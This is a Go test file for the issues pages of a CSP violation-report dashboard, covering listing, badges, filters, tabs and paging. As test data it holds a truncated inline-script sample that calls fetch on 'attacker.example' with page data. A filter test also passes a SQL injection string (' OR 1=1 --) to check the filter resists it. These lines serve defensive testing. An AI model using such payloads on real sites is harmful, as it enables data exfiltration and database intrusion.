package dash_test

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/merlon-sec/merlon/cmd/merlon/internal/dash"
	"github.com/merlon-sec/merlon/cmd/merlon/internal/store"
)

func TestIssueList(t *testing.T) {
	r := newRig(t)
	r.realistic()
	doc := r.page("/issues", 200, r.logIn())
	want := []string{"An image from another site", "Framing attempt", "An inline script without the nonce", "A form that posts elsewhere"}
	if got := texts(doc, "td.what a.headline"); !slices.Equal(got, want) {
		t.Fatalf("headlines %q, want %q, by reach", got, want)
	}
	image, inline, form := find(doc, "table.rows tbody tr")[0], find(doc, "table.rows tbody tr")[2], find(doc, "table.rows tbody tr")[3]
	wantText(t, image, "span.count", "70")
	wantText(t, image, "span.count", "1 234")
	wantText(t, image, "span.split", "1 200 report-only 34 not said")
	wantText(t, image, "span.rate", "20.6 per 1 000 page views")
	wantText(t, image, "code.directive", "img-src")
	wantText(t, image, "td.what code", "https://images.example")
	wantText(t, image, "svg.spark title", "Reports by the day: 20 Mar: 0, 21 Mar: 0, 22 Mar: 0, 23 Mar: 0, 24 Mar: 1 200, 25 Mar: 0, 26 Mar: 34")
	if got := texts(image, "ul.pages li"); !slices.Equal(got, []string{"/", "/products/{id}"}) {
		t.Errorf("pages %q, want the most frequent first", got)
	}
	wantText(t, inline, "td.what div.sample code", `fetch("https://attacker.example/?"+documen`)
	wantText(t, inline, "span.split", "14 blocked 12 report-only")
	wantText(t, inline, "span.rate", "no denominator")
	wantText(t, inline, "time", "1 min ago 2026-03-26 00:03")
	if got := texts(inline, "span.badge"); !slices.Equal(got, []string{"actionable", "unattested"}) {
		t.Errorf("badges of what nobody attests: %q", got)
	}
	if got := texts(form, "span.badge"); !slices.Equal(got, []string{"actionable", "unconfirmed"}) {
		t.Errorf("badges of what one network saw: %q", got)
	}
	wantText(t, doc, "p.total", "4 issues")
}

func TestVerdictBadges(t *testing.T) {
	r := newRig(t, func(c *dash.Config) {
		c.Reason = func(i store.Issue) string {
			return map[string]string{"extension-font@3": "The <agency>'s own."}[i.Rule]
		}
	})
	r.spread(store.Hit{Directive: "font-src", Class: "origin", Blocked: "https://a.example", Verdict: store.Noise, Rule: "extension-font@3"}, 2, 2, 2, 1)
	r.spread(store.Hit{Directive: "font-src", Class: "origin", Blocked: "https://b.example", Verdict: store.SelfContradicting}, 2, 2, 2, 1)
	cookie := r.logIn()
	doc := r.page("/issues", 200, cookie)
	wantText(t, doc, "span.noise", "noise: extension-font")
	wantText(t, doc, "span.contradicting", "self-contradicting")
	for page, want := range map[string]string{
		"/issues/1": "noise: extension-font The <agency>'s own. Nothing is deleted for it.",
		"/issues/2": "self-contradicting The policy in the report allows what it says was blocked: a redirect, a second policy, or a forged report.",
	} {
		if got := texts(r.page(page, 200, cookie), "ul.verdict li"); len(got) == 0 || got[0] != want {
			t.Errorf("%s: %q, want %q first", page, got, want)
		}
	}
}

func TestIssueFilter(t *testing.T) {
	r := newRig(t)
	r.realistic()
	r.decide(4, store.Decision{State: store.Accepted})
	cookie := r.logIn()
	image, framed, inline, form := "An image from another site", "Framing attempt", "An inline script without the nonce", "A form that posts elsewhere"
	tests := []struct {
		query string
		want  []string
	}{
		{"", []string{image, inline, form}},
		{"?state=all", []string{image, framed, inline, form}},
		{"?state=accepted", []string{framed}},
		{"?state=ignored", nil},
		{"?sort=last", []string{form, inline, image}},
		{"?sort=count", []string{image, inline, form}},
		{"?sort=new&state=all", []string{framed, form, inline, image}},
		{"?sort=none&state=none&after=none", []string{image, inline, form}},
		{"?site=blog.example", []string{form}},
		{"?site=shop.example&directive=img-src", []string{image}},
		{"?directive=script-src", []string{inline}},
		{"?type=csp-violation&verdict=actionable", []string{image, inline, form}},
		{"?verdict=noise", nil},
		{"?type=crash", nil},
		{"?text=images.EXAMPLE", []string{image}},
		{"?text=%2Fsearch", []string{inline}},
		{"?text=%25", nil},
		{"?site=blog.example&directive=img-src", nil},
		{"?site=" + url.QueryEscape("' OR 1=1 --"), nil},
	}
	for _, tt := range tests {
		doc := r.page("/issues"+tt.query, 200, cookie)
		if got := texts(doc, "a.headline"); !slices.Equal(got, tt.want) {
			t.Errorf("%s: %q, want %q", tt.query, got, tt.want)
		}
		values, _ := url.ParseQuery(strings.TrimPrefix(tt.query, "?"))
		for _, name := range []string{"site", "directive", "verdict", "type"} {
			if got := selected(doc, name); got != values.Get(name) {
				t.Errorf("%s: the form shows %s %q", tt.query, name, got)
			}
		}
	}
	wantText(t, r.page("/issues?text=nothing", 200, cookie), "section p", "No issue matches. Show all issues")
}

func TestTabsKeepTheFilter(t *testing.T) {
	r := newRig(t)
	r.realistic()
	r.decide(4, store.Decision{State: store.Accepted})
	doc := r.page("/issues?site=shop.example&sort=count", 200, r.logIn())
	if got := texts(doc, "nav.tabs a"); !slices.Equal(got, []string{"New 2", "Acknowledged 0", "Accepted risk 1", "Ignored 0", "All 3"}) {
		t.Errorf("tabs %q", got)
	}
	if got := attr(find(doc, "nav.tabs a")[2], "href"); got != "/issues?site=shop.example&sort=count&state=accepted" {
		t.Errorf("the tab leads to %q", got)
	}
}

// selected is the value that a select of the page shows.
func selected(doc *html.Node, name string) string {
	for _, s := range find(doc, "form.filter select") {
		if attr(s, "name") != name {
			continue
		}
		for _, o := range find(s, "option") {
			if slices.ContainsFunc(o.Attr, func(a html.Attribute) bool { return a.Key == "selected" }) {
				return attr(o, "value")
			}
		}
	}
	return ""
}

// The pages of the list hold each issue once.
func TestPaging(t *testing.T) {
	r := newRig(t)
	var b store.Batch
	for i := range 120 {
		b.Add(r.complete(store.Hit{Directive: "img-src", Class: "origin", Blocked: fmt.Sprintf("https://%d.example", i)}))
	}
	r.commit(&b)
	cookie := r.logIn()
	for _, sort := range []string{"reach", "last", "count", "new"} {
		seen := map[string]bool{}
		target, pages := "/issues?sort="+sort, 0
		for target != "" && pages < 5 {
			doc := r.page(target, 200, cookie)
			for _, a := range find(doc, "a.headline") {
				seen[attr(a, "href")] = true
			}
			pages++
			target = ""
			for _, a := range find(doc, "nav.pager a") {
				if attr(a, "rel") == "next" {
					target = attr(a, "href")
				}
			}
		}
		if len(seen) != 120 || pages != 3 {
			t.Errorf("by %s: %d issues on %d pages, want 120 on 3", sort, len(seen), pages)
		}
	}
}
